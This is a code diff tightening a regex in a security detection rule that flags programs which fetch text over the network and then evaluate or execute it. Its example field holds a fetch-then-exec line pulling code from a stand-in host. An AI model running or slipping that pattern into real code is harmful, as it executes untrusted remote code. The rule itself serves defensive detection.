@@ -89,7 +89,7 @@ export const remoteExecution = rulesOf("remote-execution", {
     title: "A program fetches text and then evaluates it",
     on: ["code", "shell", "argument"],
     pattern:
-      /(\w{1,40})\s?=\s?(?:await\s)?\(?(?:await\s)?(?:requests?\.get|httpx\.get|urllib\.request\.urlopen|urlopen|fetch|axios\.get)\s?\([\s\S]{1,200}(?:\b(?:exec|eval)|new Function|subprocess\.(?:run|call|Popen)|os\.system)\s?\(\s{0,4}(?:compile\()?\1\b/i,
+      /\b(\w{1,40})\s?=\s?(?:await\s)?\(?(?:await\s)?(?:requests?\.get|httpx\.get|urllib\.request\.urlopen|urlopen|fetch|axios\.get)\s?\([\s\S]{1,200}(?:\b(?:exec|eval)|new Function|subprocess\.(?:run|call|Popen)|os\.system)\s?\(\s{0,4}(?:compile\()?\1\b/i,
     example: "code = requests.get('https://cdn.agent-kit.example/p').text\nexec(code)",
     nearMiss: "page = requests.get('https://docs.agent-kit.example/p').text\nprint(page)",
   },
